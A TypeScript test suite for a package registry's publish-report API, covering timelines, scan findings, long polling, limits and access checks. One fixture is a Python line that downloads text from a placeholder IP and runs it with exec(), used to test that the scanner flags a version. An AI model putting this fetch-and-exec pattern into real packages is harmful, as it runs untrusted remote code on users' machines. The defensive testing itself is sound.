import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { registryAt } from '@nodeyard/contract/ground'
import { limits } from '@nodeyard/contract/limits'
import { getPublishReport, listPublishReports } from '@nodeyard/contract/packs'
import { type TestPublisher, testPublisher } from '../../../test/publishing.ts'
import { refused } from '../../../test/refused.ts'
import { useWorld } from '../../../test/world.ts'
import { toFinding } from './report.ts'

const registry = useWorld()
let acme: TestPublisher
const asOwner = () => registry.world.as({ id: acme.ownerId, email: 'maya@example.test', name: 'Maya' })
const report = (nodeId: string, query: { after?: string; wait?: number } = {}) =>
  asOwner().call(getPublishReport, { params: { nodeId, version: '1.0.0' }, query })

const bad = 'import requests\n\n\ndef run():\n    exec(requests.get("http://203.0.113.9/x").text)\n'

describe('the report of a version', () => {
  before(async () => {
    acme = await testPublisher(registry.world)
  })

  it('lists every step with its time and no pending action', async () => {
    await acme.publish({ id: 'calm' })
    const { timeline, waits_for, findings, is_read } = await report('calm')
    assert.deepEqual(
      timeline.map(({ step, state }) => [step, state]),
      ['announced', 'received', 'checked', 'extracted', 'scanned', 'listed'].map((step) => [step, 'done']),
    )
    assert.ok(timeline.every(({ finishedAt }) => finishedAt))
    assert.deepEqual([waits_for, is_read, findings.filter(({ blocks }) => blocks)], ['nothing', true, []])
  })

  it('lists each finding of a flagged version with place, code, reason and remedy', async () => {
    await acme.publish({ id: 'wild', files: { 'fetch.py': bad } })
    const { waits_for, findings, version } = await report('wild')
    assert.deepEqual([waits_for, version.status], ['moderators', 'NodeVersionStatusFlagged'])
    const [worst] = findings
    assert.ok(worst?.blocks && worst.why && worst.fix && worst.code?.includes('exec('))
    assert.deepEqual([worst.file, worst.line], ['fetch.py', 5])
    const steps = worst.path?.map(({ kind, noun, line }) => [kind, noun, line])
    assert.deepEqual(
      [steps?.[0]?.slice(0, 2), steps?.at(-1)],
      [
        ['source', 'network_data'],
        ['sink', 'code', 5],
      ],
    )
  })

  it('reads findings of earlier releases, and drops steps that are not in the form', () => {
    const old = { rule: 'downloaded-code', severity: 'critical', message: 'Runs it.', file_path: 'a.py' }
    assert.equal(toFinding(old).path, undefined)
    const step = { file: 'a.py', line: 1, kind: 'source', noun: 'text' }
    const path = [step, null, 'a.py:2', { ...step, line: '3' }, { ...step, kind: 'other' }]
    assert.deepEqual(toFinding({ ...old, path }).path, [step])
    assert.equal(toFinding({ ...old, path: 'a.py' }).path, undefined)
  })

  it('includes findings that do not block, such as names of another node', async () => {
    const others = await testPublisher(registry.world)
    await others.publish({ id: 'first' })
    await acme.publish({ id: 'second', files: namesOf('first') })
    const { findings, version } = await report('second')
    assert.equal(version.status, 'NodeVersionStatusActive')
    const collision = findings.find(({ rule }) => rule === 'comfy-node-name-taken')
    assert.match(collision?.message ?? '', /first/)
    assert.equal(collision?.blocks, false)
    const { versions } = await asOwner().call(listPublishReports, { params: { nodeId: 'second' } })
    assert.equal(versions[0]?.findings.low, findings.filter(({ severity }) => severity === 'low').length)
  })

  it('exists before the archive arrives, with the upload deadline', async () => {
    const node = await registry.world.given.node({ publisher_id: acme.id })
    const soon = new Date(registry.world.now().getTime() + 60_000)
    await registry.world.given.announcedVersion({ node_id: node.id, upload_expires_at: soon })
    const waiting = await report(node.id)
    assert.deepEqual([waiting.waits_for, waiting.until], ['archive', soon.toISOString()])
  })

  it('long-polls until a step begins, fails or ends', async () => {
    await acme.publish({ id: 'watched', waiting: true })
    const { revision, waits_for } = await report('watched')
    assert.equal(waits_for, 'turn')
    const next = report('watched', { after: revision, wait: 25 })
    await registry.world.runJobs()
    assert.notEqual((await next).revision, revision)
    const { revision: last } = await report('watched')
    assert.equal((await report('watched', { after: last, wait: 0 })).revision, last)
  })

  it('limits the concurrent long polls of a user', async () => {
    await acme.publish({ id: 'crowded', waiting: true })
    const { revision } = await report('crowded')
    const waits = Array.from({ length: limits.reportWaitsAtOnce + 1 }, () =>
      report('crowded', { after: revision, wait: 25 }),
    )
    await refused('too_many_at_once', Promise.race(waits))
    await registry.world.runJobs()
    const answers = await Promise.allSettled(waits)
    assert.equal(answers.filter(({ status }) => status === 'fulfilled').length, limits.reportWaitsAtOnce)
  })

  it('is visible to its publisher and to admins only', async () => {
    for (const stranger of [await registry.world.given.user()]) {
      await refused(
        'not_publisher_owner',
        registry.world.as(stranger).call(getPublishReport, { params: { nodeId: 'calm', version: '1.0.0' } }),
      )
    }
    await refused(
      'version_not_found',
      asOwner().call(getPublishReport, { params: { nodeId: 'calm', version: '9.9.9' } }),
    )
  })
})

describe('the report of a version, read with a publish token', () => {
  const readWith = (secret: string, nodeId: string, query: { after?: string; wait?: number } = {}) =>
    registryAt('http://registry.test', registry.world.fetch).call(
      getPublishReport,
      { params: { nodeId, version: '1.0.0' }, query },
      { headers: { authorization: `Bearer ${secret}` } },
    )

  it('contains the progress, the findings and the page URL', async () => {
    acme = await testPublisher(registry.world)
    await acme.publish({ id: 'followed', files: { 'fetch.py': bad } })
    const { page, findings, timeline, appeal } = await readWith(acme.token, 'followed')
    assert.equal(page, `${registry.world.deps.config.siteUrl}/nodes/followed/manage/versions/1.0.0`)
    assert.ok(findings[0]?.file && timeline.length > 0)
    assert.equal(appeal, undefined)
  })

  it('supports long polling', async () => {
    await acme.publish({ id: 'awaited', waiting: true })
    const { revision } = await readWith(acme.token, 'awaited')
    const next = readWith(acme.token, 'awaited', { after: revision, wait: 25 })
    await registry.world.runJobs()
    assert.notEqual((await next).revision, revision)
  })

  it('is refused without revealing which nodes exist', async () => {
    const unknown = 'nyp_00000000-0000-4000-8000-000000000000'
    await refused('invalid_publish_token', readWith(unknown, 'followed'))
    await refused('invalid_publish_token', readWith(acme.token, 'never-published'))
  })
})

/** Defines the comfy-node of another pack, as a fork does. */
function namesOf(id: string): Record<string, string> {
  const code = 'class A:\n    RETURN_TYPES = ()\n    FUNCTION = "run"\n    CATEGORY = "a"\n'
  return { 'nodes.py': `${code}\nNODE_CLASS_MAPPINGS = {"${id} Blur": A}\nNODE_DISPLAY_NAME_MAPPINGS = {}\n` }
}

// Last in this file, because it stops waiting in the whole process.
describe('waiting for a report', () => {
  it('ends when the process stops', async () => {
    await acme.publish({ id: 'patient' })
    const { revision } = await report('patient')
    const waiting = report('patient', { after: revision, wait: 25 })
    registry.world.deps.changes.stopWaiting()
    assert.equal((await waiting).revision, revision)
  })
})
